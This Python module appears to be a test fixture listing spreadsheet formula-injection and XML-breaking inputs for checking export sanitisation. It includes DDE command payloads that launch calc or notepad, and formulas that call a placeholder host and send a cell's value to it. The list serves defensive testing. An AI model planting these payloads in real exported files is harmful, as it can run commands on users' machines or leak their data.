"""Texts that turn into something else in careless files: formulas, links, commands, broken XML."""

from __future__ import annotations

_STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "＝", "＋", "－", "＠")
_BODIES = ("1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.org?x="&A1,"click")')

PAYLOADS: tuple[str, ...] = (
    *(start + body for start in _STARTS for body in _BODIES),
    "=cmd|'/C notepad'!'A1'",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    '=WEBSERVICE("http://example.org")',
    "{=SUM(1)}",
    "'=1+1",
    '"=1+1"',
    "=1+1\r\n=2+2",
    ";=1+1",
    ",=1+1",
    "http://example.org/",
    "mailto:someone@example.org",
    "internal:Sheet1!A1",
    "</t></is></c><c><f>1+1</f></c>",
    "]]><f>1+1</f>",
    "<f>1</f>&lt;&amp;",
    "<r><t>1</t></r>",
    "_x003D_1+1",
    "\x00=1+1",
    "\x07bell",
    "\ufffe\uffff",
    "line\nbreak\ttab",
    "  spaces at both ends  ",
    "1e5",
    "007",
    "TRUE",
    "2009-10",
    "\U0001f600 =1",
    "\u202e=1+1",
    "-",
    "=",
)
